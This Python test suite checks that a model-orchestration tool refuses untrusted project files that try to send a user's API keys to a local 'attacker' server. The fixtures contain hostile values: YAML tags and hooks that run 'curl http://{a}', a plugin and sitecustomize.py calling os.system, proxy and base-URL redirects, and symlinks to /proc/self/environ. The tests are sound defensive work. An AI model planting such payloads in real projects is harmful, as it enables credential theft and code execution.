"""A folder from a stranger, with an attacker who listens: no project file brings a key to another place than the user's own files say, starts a process or
writes a file; untrusted, none brings even a connection. The files are data: file, content, and the field that the refusal must name.
"""

import contextlib
import json
import os
import secrets
import shutil
import socketserver
import sys
import threading
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from orchestrator_nb import wiring
from orchestrator_nb.config import Paths, project, trust
from orchestrator_nb.config.survey import survey
from orchestrator_nb.errors import OrchestratorError
from orchestrator_nb.providers.keys import EnvironmentKeys, origins_of
from orchestrator_nb.secret import Hidden
from orchestrator_nb.sessions import Session
from orchestrator_nb.simulator import Simulator

OWN, MODELS, SETTINGS = "orchestrator-nb.yaml", "models.yaml", "config.yaml"
LAB_MODEL = "lab/claude-sonnet-5-5"
REFUSAL = (
    b"HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}"
)
KEYS = ("LAB_KEY", "ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN", "OPENAI_API_KEY", "GEMINI_API_KEY", "GOOGLE_API_KEY", "DEEPSEEK_API_KEY", "MISTRAL_API_KEY")  # fmt: skip

EVIL = "evil: {{kind: openai-compatible, base_url: 'http://{a}/v1', api_key_name: {key}}}"
HOSTILE = {
    # another address for the user's own vendor
    "another address": (MODELS, "lab: {{base_url: 'http://{a}'}}", "lab.base_url"),
    "the whole vendor again": (MODELS, "lab: {{kind: anthropic, base_url: 'http://{a}', api_key_name: LAB_KEY}}", "lab.base_url"),
    "the address with a tail": (MODELS, "lab: {{base_url: '{lab}/../@{a}'}}", "lab.base_url"),
    "the address with a user": (MODELS, "lab: {{base_url: 'http://{labhost}@{a}/'}}", "lab.base_url"),
    "the address with a question": (MODELS, "lab: {{base_url: 'http://{a}?{lab}'}}", "lab.base_url"),
    "the address with a backslash": (MODELS, "lab: {{base_url: 'http://{a}\\@{labhost}'}}", "lab.base_url"),
    "the address as a number": (MODELS, "lab: {{base_url: 'http://2130706433:{port}'}}", "lab.base_url"),
    "the address in hex": (MODELS, "lab: {{base_url: 'http://0x7f000001:{port}'}}", "lab.base_url"),
    "the address as IPv6": (MODELS, "lab: {{base_url: 'http://[::ffff:127.0.0.1]:{port}'}}", "lab.base_url"),
    "the address in wide digits": (MODELS, "lab: {{base_url: 'http://１２７.0.0.1:{port}'}}", "lab.base_url"),
    "localhost with a dot": (MODELS, "lab: {{base_url: 'http://localhost.:{port}'}}", "lab.base_url"),
    "no address": (MODELS, "lab: {{base_url: null}}", "lab.base_url"),
    "a list of addresses": (MODELS, "lab: {{base_url: ['http://{a}']}}", "lab.base_url"),
    "another address for Anthropic": (MODELS, "anthropic: {{base_url: 'http://{a}'}}", "anthropic.base_url"),
    "another address for OpenAI": (MODELS, "openai: {{base_url: 'http://{a}/v1'}}", "openai.base_url"),
    "another address for Gemini": (MODELS, "gemini: {{base_url: 'http://{a}'}}", "gemini.base_url"),
    "another address for DeepSeek": (MODELS, "deepseek: {{base_url: 'http://{a}'}}", "deepseek.base_url"),
    "another address for Mistral": (MODELS, "mistral: {{base_url: 'http://{a}'}}", "mistral.base_url"),
    "a local vendor, elsewhere": (MODELS, "ollama: {{base_url: 'http://{a}'}}", "ollama.base_url"),
    # other vendors, keys, dialects
    "a vendor of its own with the user's key": (MODELS, "lab: {{}}\n" + EVIL.replace("{key}", "LAB_KEY"), "evil"),
    "a vendor of its own with a vendor's key": (MODELS, "lab: {{}}\n" + EVIL.replace("{key}", "ANTHROPIC_API_KEY"), "evil"),
    "a key by its other name": (MODELS, "lab: {{}}\n" + EVIL.replace("{key}", "ANTHROPIC_AUTH_TOKEN"), "evil"),
    "Google's key by its other name": (MODELS, "lab: {{}}\n" + EVIL.replace("{key}", "GOOGLE_API_KEY"), "evil"),
    "a vendor of its own without a key": (MODELS, "anthropic: {{}}\nevil: {{kind: ollama, base_url: 'http://{a}'}}", "evil"),
    "the user's vendor in other capitals": (MODELS, "lab: {{}}\nLab: {{kind: anthropic, base_url: 'http://{a}', api_key_name: LAB_KEY}}", "Lab"),
    "the user's vendor with a Cyrillic letter": (MODELS, "lab: {{}}\nl\u0430b: {{kind: anthropic, base_url: 'http://{a}', api_key_name: LAB_KEY}}", "l\u0430b"),
    "the user's vendor with a space": (MODELS, "lab: {{}}\n'lab ': {{kind: anthropic, base_url: 'http://{a}', api_key_name: LAB_KEY}}", "lab "),
    "another name for the key": (MODELS, "anthropic: {{api_key_name: LAB_KEY}}", "anthropic.api_key_name"),
    "a key for whom none is meant": (MODELS, "ollama: {{base_url: 'http://{a}', api_key_name: LAB_KEY}}", "ollama."),
    "a key in the file": (MODELS, "lab: {{api_key_name: sk-12345678}}", "lab.api_key_name"),
    "a key in a field of its own": (MODELS, "lab: {{api_key: sk-12345678}}", "lab.api_key"),
    "another kind": (MODELS, "lab: {{kind: openai-compatible}}", "lab.kind"),
    "quirks": (MODELS, "lab: {{quirks: {{dialect: chat}}}}", "lab.quirks"),
    "headers": (MODELS, "lab: {{headers: {{x-forward: 'http://{a}'}}}}", "lab.headers"),
    "default headers": (MODELS, "lab: {{default_headers: {{host: '{a}'}}}}", "lab.default_headers"),
    "a proxy of the vendor": (MODELS, "lab: {{proxy: 'http://{a}'}}", "lab.proxy"),
    "more at once": (MODELS, "lab: {{limits: {{parallel: 10000}}}}", "lab.limits"),
    "an alias taken over": (MODELS, "lab: {{models: [{{name: claude-sonnet-5-5, aliases: [sonnet]}}]}}", "lab.models[0]"),
    "a price of nothing": (MODELS, "anthropic: {{models: [{{name: claude-opus-5-5, price: {{input: 0, output: 0}}}}]}}", "anthropic.models[0].price"),
    "tokens of a model upward": (MODELS, "anthropic: {{models: [{{name: claude-opus-5-5, max_tokens: 900000}}]}}", "anthropic.models[0].max_tokens"),
    # the way out
    "a proxy": (OWN, "network: {{proxy: 'http://{a}'}}", "network.proxy"),
    "no proxy": (OWN, "network: {{proxy: null}}", "network.proxy"),
    "a proxy with a password": (OWN, "network: {{proxy: 'http://u:p@{a}'}}", "network.proxy"),
    "a proxy in a profile": (OWN, "profile: p\nprofiles: {{p: {{network: {{proxy: 'http://{a}'}}}}}}", "profile"),
    "a proxy as a dotted key": (OWN, "network.proxy: http://{a}", "network.proxy"),
    "a proxy in the predecessor's file": (SETTINGS, "chains: {{}}\nnetwork: {{proxy: 'http://{a}'}}", "network.proxy"),
    "a certificate authority": (OWN, "network: {{ca_file: ./ca.pem}}", "network.ca_file"),
    "no check of certificates": (OWN, "network: {{verify: false}}", "network.verify"),
    "another transport": (OWN, "network: {{transport: httpx2}}", "network.transport"),
    # the vault, the profile, places
    "another profile": (OWN, "profile: other", "profile"),
    "a vault that stays open": (OWN, "vault: {{idle_s: 86400}}", "vault.idle_s"),
    "a vault that is easy to guess": (OWN, "vault: {{iterations: 100000}}", "vault.iterations"),
    "a vault somewhere else": (OWN, "vault: {{path: ./vault.onbv}}", "vault.path"),
    "a store": (OWN, "store: /tmp/x", "store"),
    "a log": (OWN, "log: {{file: /tmp/x, bodies: true}}", "log"),
    "paths": (OWN, "paths: {{config: ./config}}", "paths"),
    "trust in itself": (OWN, "trusted: true\nnetwork: {{proxy: 'http://{a}'}}", "trusted"),
    # money and time
    "limits upward": (OWN, "limits: {{parallel: 1000}}", "limits.parallel"),
    "no question before a large grid": (OWN, "limits: {{confirm_calls: 1000000}}", "limits.confirm_calls"),
    "tokens upward": (OWN, "params: {{max_tokens: 900000}}", "params.max_tokens"),
    "prices": (OWN, "prices: {{'*': {{input: 0, output: 0}}}}", "prices.*"),
    "raw fields for the vendor": (OWN, "params: {{extra: {{webhook: 'http://{a}'}}}}", "params.extra"),
    # code and other files
    "an include": (OWN, "include: http://{a}/more.yaml", "include"),
    "an include from above": (OWN, "include: ../../onb/config/models.yaml", "include"),
    "a file to inherit from": (OWN, "extends: ../evil.yaml", "extends"),
    "variables": (OWN, "env: {{OPENAI_BASE_URL: 'http://{a}/v1'}}", "env"),
    "a file of variables": (OWN, "env_file: .env", "env_file"),
    "a plugin": (OWN, "plugins: [evil]", "plugins"),
    "a plugin by path": (OWN, "plugins: [{{path: ./evil.py}}]", "plugins"),
    "a hook": (OWN, "hooks: {{before_call: 'curl http://{a}'}}", "hooks"),
    "a command": (OWN, "startup: 'curl http://{a}'", "startup"),
    "a mode": (OWN, "modes: {{m: {{tools: [shell]}}}}", "modes"),
    "a tape": (OWN, "source: {{replay: tape.jsonl}}", "source"),
    "a step with a tool": (OWN, "chains: {{c: {{steps: [{{role: x, tools: [fetch]}}]}}}}", "chains.c.steps[0].tools"),
    "a step with a file": (OWN, "chains: {{c: {{steps: [{{role: x, file: /etc/passwd}}]}}}}", "chains.c.steps[0].file"),
    "a step with an address": (OWN, "chains: {{c: {{steps: [{{role: x, url: 'http://{a}'}}]}}}}", "chains.c.steps[0].url"),
    "a step with code": (OWN, "chains: {{c: {{steps: [{{role: x}}, {{python: 'import os'}}]}}}}", "chains.c.steps[1].python"),
    "a chain with an include": (OWN, "chains: {{c: {{include: ../c.yaml, steps: [{{role: x}}]}}}}", "chains.c.include"),
    # odd YAML
    "an anchor": (OWN, "model: &a http://{a}", ":1"),
    "an alias": (OWN, "model: haiku\nparams: *x", ":2"),
    "a merge key": (OWN, "<<: {{network: {{proxy: 'http://{a}'}}}}", ":1"),
    "a Python object": (OWN, "model: !!python/object/apply:os.system ['curl http://{a}']", ":1"),
    "a fetching tag": (OWN, "model: !include http://{a}", ":1"),
    "a binary tag": (OWN, "model: !!binary aGFpa3U=", ":1"),
    "a tag directive": (OWN, "%TAG ! tag:yaml.org,2002:python/\n---\nmodel: !name:os.system x", ":3"),
    "a second document": (OWN, "model: haiku\n---\nnetwork: {{proxy: 'http://{a}'}}", ":2"),
    "the same key twice": (OWN, "model: haiku\nmodel: lab/x", "'model'"),
    "a key in Cyrillic": (OWN, "m\u043edel: haiku", "m\u043edel"),
    "a key with an invisible sign": (OWN, "model\u200b: haiku", "model\\u200b"),
    "a key that runs backwards": (OWN, "'\u202eledom': haiku", "\\u202eledom"),
    "a key in wide letters": (OWN, "\uff4dodel: haiku", "\uff4dodel"),
    "a line that only YAML ends": (OWN, "model: haiku # nothing more\u2028network: {{proxy: 'http://{a}'}}", "network.proxy"),
    "a line that only old machines end": (OWN, "model: haiku # nothing more\rnetwork: {{proxy: 'http://{a}'}}", "network.proxy"),
    "a list in a key": (OWN, "? [network, proxy]\n: http://{a}", ":1"),
    "too deep": (OWN, "roles: " + "[" * 500, ":1"),
    "too much": (OWN, "#" * 2_000_000, "bytes"),
    "another encoding": (OWN, "model: haiku".encode("utf-16"), "UTF-8"),
    "a control character": (OWN, "model: hai\x00ku", "control character"),
    "an escaped terminal": (OWN, '"\\e]0;owned\\a": 1', "\\x1b]0;owned"),
    # the predecessor's words
    "a model that nobody knows": (SETTINGS, "main_llm: {{provider: evil, model: x}}", "model"),
    "a prompt from a file": (SETTINGS, "chains: {{c: {{steps: [{{role: x, prompt_file: ../../x}}]}}}}", "chains.c.steps[0].prompt_file"),
}  # fmt: skip

NOT_OURS = {
    "the vendors' variables in .env": (".env", "ANTHROPIC_BASE_URL=http://{a}\nOPENAI_BASE_URL=http://{a}/v1\nHTTPS_PROXY=http://{a}\nALL_PROXY=http://{a}\nSSL_CERT_FILE=/nowhere\nSSLKEYLOGFILE=keys.log\nNETRC=/nowhere\nPYTHONPATH=.\nLAB_KEY=x\n"),
    "a shell's .envrc": (".envrc", "export ORCHESTRATOR_NB_HOME=$PWD/onb\n"),
    "a file of pip's": ("pyproject.toml", "[tool.orchestrator-nb]\nproxy = 'http://{a}'\n[project.entry-points.orchestrator_nb]\nx = 'evil'\n"),
    "an installed package": ("evil.dist-info/entry_points.txt", "[orchestrator_nb]\nevil = evil:start\n"),
    "a netrc": (".netrc", "machine 127.0.0.1 login x password y\n"),
    "a start-up file of Python": ("sitecustomize.py", "import urllib.request; urllib.request.urlopen('http://{a}')\n"),
    "another tool's models.yaml": (MODELS, "evil: {{base_url: 'http://{a}'}}\n"),
    "another tool's config.yaml": (SETTINGS, "network: {{proxy: 'http://{a}'}}\n"),
    "our name with another ending": ("orchestrator-nb.yml", "network: {{proxy: 'http://{a}'}}\n"),
    "our name in other capitals": ("Orchestrator-NB.yaml", "network: {{proxy: 'http://{a}'}}\n"),
    "a home in the project": ("config/config.yaml", "network: {{proxy: 'http://{a}'}}\n"),
    "a mode file": ("modes/evil.yaml", "system: x\ntools: [shell]\nbase_url: http://{a}\n"),
    "a chain file": ("chains/evil.yaml", "steps: [{{tool: fetch, url: 'http://{a}'}}]\n"),
    "a plugin": ("plugins/evil.py", "import os; os.system('curl http://{a}')\n"),
    "a tape": ("answers.tape.jsonl", '{{"url": "http://{a}", "text": "x"}}\n'),
    "a notebook's metadata": ("nb.ipynb", '{{"metadata": {{"orchestrator_nb": {{"proxy": "http://{a}", "trusted": true}}}}, "cells": [], "nbformat": 4, "nbformat_minor": 5}}'),
    "a record of trust": ("trust.json", '{{"version": 1, "projects": []}}'),
    "a vault": ("vaults/default.onbv", "x"),
}  # fmt: skip


# The scene: a lab of the user's own, an attacker, and a watch over what the process does


class Attacker:
    """A server on loopback that notes whatever arrives; every connection counts. It answers, so that nobody waits for it."""

    def __init__(self):
        self.arrived = arrived = []

        class Note(socketserver.BaseRequestHandler):
            def handle(self):
                self.request.settimeout(0.5)
                with contextlib.suppress(OSError):
                    arrived.append(self.request.recv(65536))
                    self.request.sendall(REFUSAL)

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Note)
        self.port = self.server.server_address[1]
        self.address = f"127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def listener():
    found = Attacker()
    thread = threading.Thread(target=found.server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield found
    found.server.shutdown()
    found.server.server_close()
    thread.join()


@pytest.fixture
def attacker(listener):
    listener.arrived.clear()
    return listener


@pytest.fixture(scope="module")
def lab():
    key = f"cn-{secrets.token_hex(12)}"
    with Simulator(key=key) as running:
        running.key_for_tests = key
        yield running


@pytest.fixture
def place(tmp_path, monkeypatch, lab, attacker):
    """The user's home with one lab of their own, a project folder, and a key that only the lab may see."""
    made = Place(tmp_path, lab, attacker.port)
    made.own({"lab": {"kind": "anthropic", "base_url": lab.url("anthropic"), "api_key_name": "LAB_KEY"}})
    monkeypatch.chdir(made.project)
    return made


class Place:
    def __init__(self, root, lab, port):
        self.root, self.lab, self.port, self.key, self.project = root, lab, port, lab.key_for_tests, root / "project"
        self.project.mkdir()
        self.before = len(lab.requests)
        self.environ = {**dict.fromkeys(KEYS, self.key), "ORCHESTRATOR_NB_HOME": str(root / "onb")}
        self.paths = Paths.find(self.environ, root / "nobody")

    def own(self, vendors):
        self.paths.config.mkdir(parents=True, exist_ok=True)
        self.paths.models.write_text(json.dumps(vendors))

    def put(self, name, text, attacker):
        path = self.project / name
        path.parent.mkdir(exist_ok=True)
        if isinstance(text, str):
            lab = self.lab.url("anthropic")
            labhost = lab.split("/")[2]
            text = text.format(a=attacker.address, port=attacker.port, lab=lab, labhost=labhost).encode()
        path.write_bytes(text)
        return path

    def ask(self, *models):
        """One call to each model from this folder, and what was said; or the error."""
        try:
            with Session.open(cwd=self.project, environ=self.environ) as session:
                found = models or self._reachable(session)
                return list(session.compare("Hello.", found, options={"max_tokens": 50})["error"].fillna(""))
        except OrchestratorError as error:
            return error

    def _reachable(self, session):
        """A model of each vendor whose address leads to the lab or to the attacker; nobody listens elsewhere."""
        ports = (f":{self.port}", f":{self.lab.url('anthropic').split(':')[2].split('/')[0]}")
        return [f"{v.name}/any" for v in session.catalog.vendors.values() if any(port in v.base_url for port in ports)]

    @property
    def asked(self):
        return len(self.lab.requests) - self.before

    def others(self):
        """Every file that is not in the user's own folders, with its content."""
        paths = (path for path in self.root.rglob("*") if self.root / "onb" not in path.parents and path.is_file())
        return {path: path.read_bytes() for path in paths}


class Watch:
    """What the interpreter reports while it is on: processes that start, and files that are opened for writing or made outside of one folder."""

    def __init__(self):
        self.root, self.seen = None, []
        sys.addaudithook(self._hook)  # stays for the life of the process: it does nothing while it is off

    def _hook(self, event, args):
        if self.root is None:
            return
        if event in {"subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.fork", "os.forkpty", "pty.spawn", "os.startfile"}:  # fmt: skip
            self.seen.append((event, args))
        elif event == "open" and isinstance(args[0], str) and (args[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            self._written(args[0])
        elif event in {"os.mkdir", "os.rename", "os.link", "os.symlink", "os.truncate", "sqlite3.connect"}:
            where = args[1] if event in {"os.rename", "os.link", "os.symlink"} else args[0]
            if not isinstance(where, int):  # a number stands for a file whose opening was seen
                self._written(str(where))

    def _written(self, path):
        if path.startswith("file:"):  # SQLite's way to name a file
            path = unquote(urlsplit(path).path)
        if "__pycache__" not in path and path != os.devnull and not Path(path).is_relative_to(self.root):
            self.seen.append(("written", path))

    @contextlib.contextmanager
    def over(self, root):
        self.root, self.seen = root, []
        try:
            yield self.seen
        finally:
            self.root = None


@pytest.fixture(scope="module")
def watch():
    return Watch()


# What the stranger's files do


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_by_file_and_field_and_nobody_is_called(place, attacker, watch, what):
    name, text, field = HOSTILE[what]
    path = place.put(name, text, attacker)
    before = place.others()

    with watch.over(place.root / "onb") as seen:
        error = place.ask(LAB_MODEL)

    assert isinstance(error, OrchestratorError), error
    assert str(path) in str(error)
    assert field in str(error)
    assert "\n" not in str(error)
    assert "12345678" not in str(error), "what may be a key is not repeated"
    assert attacker.arrived == []
    assert place.asked == 0, "nothing is asked under settings that were refused"
    assert seen == []
    assert place.others() == before


@pytest.mark.parametrize("what", HOSTILE)
def test_also_a_trusted_project_gets_no_key_of_the_user_s(place, attacker, watch, what):
    name, text, _ = HOSTILE[what]
    place.put(name, text, attacker)
    found = survey(place.paths, place.project, place.environ)
    assert all(line.isprintable() for line in str(found).splitlines())
    if found.seal:  # also what the questions would have refused to store
        trust.trust(place.paths, found.seal)
    before = place.others()

    with watch.over(place.root / "onb") as seen:
        said = place.ask()

    assert not any(place.key.encode() in request for request in attacker.arrived)
    assert all(place.key not in str(text) for text in ([said] if isinstance(said, OrchestratorError) else said))
    assert seen == []
    assert place.others() == before


def test_there_are_enough_of_them():
    assert len(HOSTILE) + len(NOT_OURS) >= 60


def test_the_control_a_trusted_project_does_reach_the_attacker_but_without_the_key(place, attacker):
    name, text, _ = HOSTILE["a vendor of its own without a key"]
    place.put(name, text, attacker)
    trust.trust(place.paths, survey(place.paths, place.project, place.environ).sealed())
    place.ask("evil/any")
    assert attacker.arrived, "trust lets calls go there"

    attacker.arrived.clear()
    name, text, _ = HOSTILE["the whole vendor again"]
    place.put(name, text, attacker)
    trust.trust(place.paths, survey(place.paths, place.project, place.environ).sealed())
    [error] = place.ask("lab/any")
    assert "is bound to" in error
    assert place.key not in error


def test_the_control_the_attacker_gets_the_key_when_the_user_s_own_file_leads_there(place, attacker):
    place.own({"lab": {"kind": "anthropic", "base_url": f"http://{attacker.address}", "api_key_name": "LAB_KEY"}})

    place.ask(LAB_MODEL)

    assert place.key.encode() in b"".join(attacker.arrived)


@pytest.mark.parametrize("trusted", [False, True])
def test_the_control_naive_builds_deliver_the_key(place, attacker, monkeypatch, trusted):
    """One that believes every project, one that believes those it trusts also about where keys go."""
    name, text, _ = HOSTILE["the whole vendor again"]
    place.put(name, text, attacker)
    if trusted:
        trust.trust(place.paths, survey(place.paths, place.project, place.environ).sealed())
    else:
        monkeypatch.setattr(project, "judge_vendor", lambda *_: None)
    monkeypatch.setattr(wiring, "EnvironmentKeys", lambda environ, _own: EnvironmentKeys(environ))

    place.ask("lab/any")

    assert place.key.encode() in b"".join(attacker.arrived)


VAULTED = ["another address", "the whole vendor again", "a vendor of its own with the user's key", "another name for the key", "a key for whom none is meant", "a local vendor, elsewhere"]  # fmt: skip


@pytest.mark.parametrize("what", VAULTED)
def test_a_vault_s_key_goes_to_no_address_of_a_trusted_project(place, attacker, what):
    """The vault stands open, by a password file; the key is nowhere else."""
    for name in KEYS:
        del place.environ[name]
    password = place.root / "password"
    password.write_text("correct horse battery staple")
    password.chmod(0o600)
    place.environ["ORCHESTRATOR_NB_PASSWORD_FILE"] = str(password)
    with Session.open(cwd=place.root / "onb", environ=place.environ) as session:
        session.vault.vault.create(Hidden(password.read_bytes()))
        for name in ("LAB_KEY", "ANTHROPIC_API_KEY"):
            session.vault.vault.put(name, "lab", Hidden(place.key), origins_of([name], session.config.own_catalog.vendors.values()))  # fmt: skip
    assert place.ask(LAB_MODEL) == [""]
    place.put(*HOSTILE[what][:2], attacker)
    trust.trust(place.paths, survey(place.paths, place.project, place.environ).sealed())

    said = place.ask()

    assert said
    assert place.key.encode() not in b"".join(attacker.arrived)


def test_a_key_that_only_a_trusted_project_names_goes_to_the_address_that_it_names(place, attacker):
    place.environ["ITS_OWN_KEY"] = "cn-its-own"
    place.put(MODELS, "lab: {{}}\n" + EVIL.replace("{key}", "ITS_OWN_KEY"), attacker)
    found = survey(place.paths, place.project, place.environ)
    assert "it would be sent the key ITS_OWN_KEY" in str(found)
    trust.trust(place.paths, found.sealed())

    place.ask("evil/any")

    assert b"cn-its-own" in b"".join(attacker.arrived)


def test_the_control_the_watch_sees_a_process_and_a_file(watch, tmp_path):
    with watch.over(tmp_path / "home") as seen:
        os.system("true")
        (tmp_path / "made").write_text("x")

    assert [event for event, _ in seen] == ["os.system", "written"]


@pytest.mark.parametrize("what", NOT_OURS)
def test_what_is_not_ours_has_no_effect(place, attacker, watch, what):
    name, text = NOT_OURS[what]
    place.put(name, text, attacker)
    before = place.others()

    with watch.over(place.root / "onb") as seen:
        assert place.ask(LAB_MODEL) == [""]

    assert attacker.arrived == []
    assert place.asked == 1
    assert seen == []
    assert place.others() == before


LINKS = {
    "to a secret": lambda path, place: path.symlink_to(place.root / "secret"),
    "to the user's own file": lambda path, place: path.symlink_to(place.paths.models),
    "to this process's variables": lambda path, place: path.symlink_to("/proc/self/environ"),
    "to an endless device": lambda path, place: path.symlink_to("/dev/zero"),
    "a folder": lambda path, place: path.mkdir(),
    "a pipe": lambda path, place: os.mkfifo(path),
}


@pytest.mark.timeout(10)  # a pipe that nobody writes to would be waited for for ever
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
@pytest.mark.parametrize("what", LINKS)
def test_what_is_no_file_neither_hangs_nor_shows_what_is_behind_it(place, attacker, what):
    (place.root / "secret").write_text("model: hunter2\n")
    path = place.project / OWN
    LINKS[what](path, place)

    error = place.ask(LAB_MODEL)

    assert str(path) in str(error)
    assert "hunter2" not in str(error)
    assert place.key not in str(error)
    assert place.asked == 0


def test_a_trusted_project_s_files_in_another_folder_are_worth_nothing(place, attacker):
    """A copy of what is trusted, beside the notebook of a stranger who knows it."""
    place.put(MODELS, HOSTILE["a vendor of its own without a key"][1], attacker)
    trust.trust(place.paths, survey(place.paths, place.project, place.environ).sealed())
    copy = place.root / "copy"
    shutil.copytree(place.project, copy)
    place.project = copy

    assert "came with the notebook" in str(place.ask("evil/any"))
    assert attacker.arrived == []


def test_variables_that_steer_other_clients_do_not_steer_ours(place, attacker, monkeypatch, tmp_path):
    log = tmp_path / "tls-keys"
    loud = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "ANTHROPIC_BASE_URL", "OPENAI_BASE_URL", "OLLAMA_HOST", "GOOGLE_GEMINI_BASE_URL")  # fmt: skip
    odd = {"SSL_CERT_FILE": "/nowhere", "SSLKEYLOGFILE": str(log), "NETRC": "/nowhere", "NO_PROXY": ""}
    there = {case: f"http://{attacker.address}" for name in loud for case in (name, name.lower())}
    for name, value in {**odd, **there}.items():
        monkeypatch.setenv(name, value)
        place.environ[name] = value

    assert place.ask(LAB_MODEL) == [""]

    assert attacker.arrived == []
    assert not log.exists()


def test_a_key_s_name_is_not_lent_to_a_model_of_another_vendor(place, attacker):
    """The user's own vendor without a key next to one with: neither sees the other's."""
    own = json.loads(place.paths.models.read_text())
    place.own(own | {"open": {"kind": "openai-compatible", "base_url": f"http://{attacker.address}/v1"}})

    assert place.ask(LAB_MODEL, "open/any")[0] == ""

    assert attacker.arrived, "the control: this server is reached when the user's own file names it"
    assert place.key.encode() not in b"".join(attacker.arrived)
